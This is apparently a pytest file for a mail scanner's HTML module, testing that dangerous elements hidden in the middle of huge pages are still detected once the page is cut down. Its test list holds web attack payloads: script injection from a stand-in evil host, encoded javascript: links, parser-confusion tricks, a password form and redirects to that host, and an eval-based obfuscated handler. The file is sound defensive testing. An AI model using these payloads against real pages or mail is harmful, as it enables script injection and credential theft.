"""Large pages cut down: whatever acts in the middle of one is found as in a small page, whatever stands around it."""

from itertools import product

import pytest
from tests.variants import one_in

from gatepost.mail.html.large_pages import MAX_KEPT_TAGS, cut_scripts, is_large_page, shorten_page
from gatepost.mail.html.limits import MAX_TAGS
from gatepost.mail.message import Part
from gatepost.mail.text import TextReader

ROW = '<tr id="r%d"><td class=n>%d</td><td title="row %d">alpha</td><td><a href="https://shop.example/%d">a</a></td></tr>\n'
ROWS = "".join(ROW % (number, number, number, number) for number in range(14_000))


def read(html: str) -> TextReader:
    reader = TextReader()
    reader.read(Part("1", content_type="text/html", content=html.encode(), names=("a.html",), disposition="attachment"))
    return reader


def find_kinds(html: str) -> set[str]:
    return {defect.kind for defect in read(html).defects}


ACTING = [
    "<script>x()</script>",
    "<SCRIPT src=//evil.example/a.js></SCRIPT>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>x()</x:script>",
    "<td onclick=x()>",
    "<tr id=r1 onmouseover='x(1)'>",
    '<a href="&#106;avascript:x()">a</a>',
    '<a href="java\tscript:x()">a</a>',
    "<form action=https://evil.example><input type=password></form>",
    "<input type=password name=p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=https://evil.example/></iframe>",
    "<base href=https://evil.example/>",
    "<svg onload=x()></svg>",
    "<td title='>'><script>x()</script>",
    '<td title="<style>"><script>x()</script><td title="</style>">',
    '<td x=y" z="><script>x()</script>',
    "<!-- > --><script>x()</script>",
    "<!--><script>x()</script>-->",
    "<textarea></textarea><script>x()</script>",
    "<a href=https://evil.example/login>a</a>",
    "<a href=//evil.example/login>a</a>",
    "<img src=https://evil.example/pixel.png>",
]


@pytest.mark.parametrize("piece", one_in(5, ACTING))
def test_what_acts_in_the_middle_is_found(piece: str) -> None:
    large = f"<html><body><table>{ROWS}{piece}{ROWS}</table></body></html>"
    assert is_large_page(large.encode())
    small = read(f"<html><body><table>{ROW}{piece}{ROW}</table></body></html>")
    found = read(large)
    kinds = {defect.kind for defect in found.defects}
    assert {defect.kind for defect in small.defects if defect.kind.startswith("html:")} <= kinds
    assert {link.host for link in small.links} <= {link.host for link in found.links}
    assert kinds >= {"limit:text-size"}
    assert found.tags <= MAX_TAGS // 2


def test_a_table_and_nothing_else() -> None:
    found = read(f"<table>{ROWS * 3}</table>")
    assert {defect.kind for defect in found.defects} == {"limit:text-size"}
    assert found.texts[0].visible.count("alpha") > 3_000
    assert found.tags < 30_000


def test_every_tag_whose_digits_may_be_code_is_kept() -> None:
    codes = ",".join(str(100 + number) for number in range(12))
    row = '<td onclick="eval(String.fromCharCode(%s))">a</td>'
    page = shorten_page(ROWS + row % codes + ROWS + row % codes[::-1] + ROWS)
    assert codes in page.html
    assert codes[::-1] in page.html
    one = shorten_page(ROWS + "".join(f"<td onclick=go({number})>a</td>" for number in range(10_000)) + ROWS)
    assert one.is_whole
    assert one.html.count("onclick") < 20


@pytest.mark.variant
def test_a_page_with_too_many_things_that_act_is_not_cut_down() -> None:
    letters = "abcdefghijklmnopqrstuvwxyz"
    names = ["".join(each) for each in product(letters, repeat=4)][: MAX_KEPT_TAGS * 2]
    handlers = "".join(f"<td onclick={name}()>" for name in names)
    assert not shorten_page(ROWS + handlers + ROWS).is_whole
    assert "limit:html-size" in find_kinds(ROWS + handlers + ROWS)


@pytest.mark.parametrize(
    "mark", ["<", "<a b='", '<a b="', "<!--", "<script>", "<style>", "a<b", "<td title='x'", "&", "</"]
)
def test_cutting_is_total_and_linear(mark: str) -> None:
    page = shorten_page(mark * 60_000)
    assert len(page.html) <= len(mark) * 60_000 + 400_000
    read(mark * 60_000)


def test_pictures_in_addresses_are_shortened_and_their_texts_stay() -> None:
    picture = '<p>Figure %d shows it.</p><img alt="" src="data:image/png;base64,' + "QUJD" * 100_000 + '">'
    html = "<body>" + "".join(picture % number for number in range(20))
    found = shorten_page(html)
    assert len(found.html) < 100_000
    assert found.html.count("<img") >= 1
    assert "Figure 19" in found.html


def test_long_scripts_stay_whole_unless_they_are_cut() -> None:
    script = "<script>var a=[" + "1.5," * 2_000_000 + "0];last()</script>"
    page = shorten_page(f"<p>a</p>{script}<p>b</p>")
    assert script in page.html
    assert len(cut_scripts(page.html, 10_000)) < 20_000
    assert "last()" in cut_scripts(page.html, 10_000)
